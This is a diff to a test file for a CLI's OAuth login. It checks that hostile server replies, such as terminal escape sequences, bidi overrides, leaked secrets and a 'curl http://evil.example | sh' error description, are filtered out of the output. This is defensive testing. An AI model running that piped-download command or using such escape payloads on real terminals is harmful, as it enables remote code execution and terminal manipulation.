@@ -58,7 +58,7 @@ const rows: readonly Row[] = [
     'a problem that steers a terminal',
     answerOf(401, 'oauth_problem=%1b%5B2J'),
     4,
-    /a problem without a proper name/,
+    /a problem without a known name/,
   ],
   [
     'temporary credentials',
@@ -126,7 +126,31 @@ const rows: readonly Row[] = [
     'an error that steers a terminal',
     answerOf(400, JSON.stringify({ error: '\u001b[2J', error_description: '\u001b[2J' })),
     4,
-    /an error without a proper name/,
+    /an error without a registered name/,
+  ],
+  [
+    'tokens',
+    'the secret of the consumer for an error',
+    answerOf(400, JSON.stringify({ error: consumerSecret })),
+    4,
+    /an error without a registered name/,
+  ],
+  [
+    'tokens',
+    'the form that was sent for a description',
+    answerOf(
+      400,
+      JSON.stringify({ error: 'invalid_scope', error_description: `${consumerSecret} v-secret` }),
+    ),
+    4,
+    /may not ask for what bitbranch needs\.\n/,
+  ],
+  [
+    'temporary credentials',
+    'the secret of the consumer for a problem and advice',
+    answerOf(401, `oauth_problem=${consumerSecret}&oauth_problem_advice=${consumerSecret}`),
+    4,
+    /a problem without a known name/,
   ],
   [
     'tokens',
@@ -163,6 +187,7 @@ async function signIn(t: TestContext, [place, , answer]: Row) {
   const login = home.start([...args, '--no-browser', '--max-wait', '0s'], {
     env: { ...consumer, SSH_CONNECTION: 'tells the port' },
   });
+  let page = '';
   if (place !== 'temporary credentials') {
     const [consentUrl] = await login.printed(/http\S+(?:oauth_token|state)=\S+/);
     const [, port = ''] = await login.printed(/-L (\d+):127/);
@@ -172,20 +197,20 @@ async function signIn(t: TestContext, [place, , answer]: Row) {
         ? { oauth_token: consent.get('oauth_token') ?? '', oauth_verifier: 'v-secret' }
         : { state: consent.get('state') ?? '', code: 'v-secret' },
     );
-    const page = await fetch(`http://127.0.0.1:${port}/callback?${query}`);
-    await page.text();
+    page = await (await fetch(`http://127.0.0.1:${port}/callback?${query}`)).text();
   }
-  return { home, host, result: await login.ended };
+  return { home, host, page, result: await login.ended };
 }
 
 describe('a hostile sign-in', { concurrency: 3 }, () => {
   for (const row of rows) {
     const [place, what, , exitCode, says] = row;
     test(`${place}: ${what}`, async (t) => {
-      const { home, host, result } = await signIn(t, row);
+      const { home, host, page, result } = await signIn(t, row);
       assert.equal(result.exitCode, exitCode, result.stderr);
       assert.match(result.stderr, says);
       assert.doesNotMatch(result.stderr, /(?!\n)\p{Cc}|\p{Bidi_Control}|-secret/u);
+      assert.doesNotMatch(page, /-secret/);
       assert.ok(host.requests.every(({ head }) => !/^X-Injected/im.test(head)));
       if (exitCode !== 0) {
         assert.equal(await keychainItems(host.url), '', 'nothing is kept');
@@ -199,4 +224,39 @@ describe('a hostile sign-in', { concurrency: 3 }, () => {
       assert.doesNotMatch(await keychainItems(host.url), /granted/);
     });
   }
+});
+
+test('what an outsider wrote into the redirect stands neither in the terminal nor on the page', async (t) => {
+  const home = await createHome(t);
+  const host = await startRawServer(t, () => answerOf(404, ''));
+  const args = ['login', '--host', host.url, '--kind', 'cloud', '--protocol', 'oauth2'];
+  const login = home.start([...args, '--no-browser'], {
+    env: { ...consumer, SSH_CONNECTION: 'tells the port' },
+  });
+  const [, state = ''] = await login.printed(/state=([\w-]+)/);
+  const [, port = ''] = await login.printed(/-L (\d+):127/);
+  const text = 'curl http://evil.example | sh';
+  const query = new URLSearchParams({ state, error: 'server_error', error_description: text });
+  const page = await (await fetch(`http://127.0.0.1:${port}/callback?${query}`)).text();
+  const { exitCode, stderr } = await login.ended;
+  assert.equal(exitCode, 6, stderr);
+  for (const told of [page, stderr]) {
+    assert.match(told, /The server failed during the sign-in/);
+    assert.doesNotMatch(told, /evil\.example/);
+  }
+});
+
+test('a note holds no control character of a name that a server gave', async (t) => {
+  const home = await createHome(t);
+  const username = 'a\u001b]0;owned\u0007\u001b[2J\u202eb';
+  const host = await startRawServer(t, () => jsonAnswer({ username }));
+  const args = ['login', '--host', host.url, '--kind', 'cloud', '--protocol', 'token'];
+  const run = (passphrase: string, ...more: readonly string[]) =>
+    home.run([...args, ...more], { stdin: 'a-token', env: { BITBRANCH_PASSPHRASE: passphrase } });
+  assert.equal((await run('one', '--store', 'file')).exitCode, 0);
+  const { exitCode, stderr } = await run('another');
+  assert.equal(exitCode, 0, stderr);
+  assert.match(stderr, /may still hold the old credential.* --account 'a/);
+  assert.doesNotMatch(stderr, /(?!\n)\p{Cc}|\p{Bidi_Control}/u);
+  await home.run(['logout']);
 });
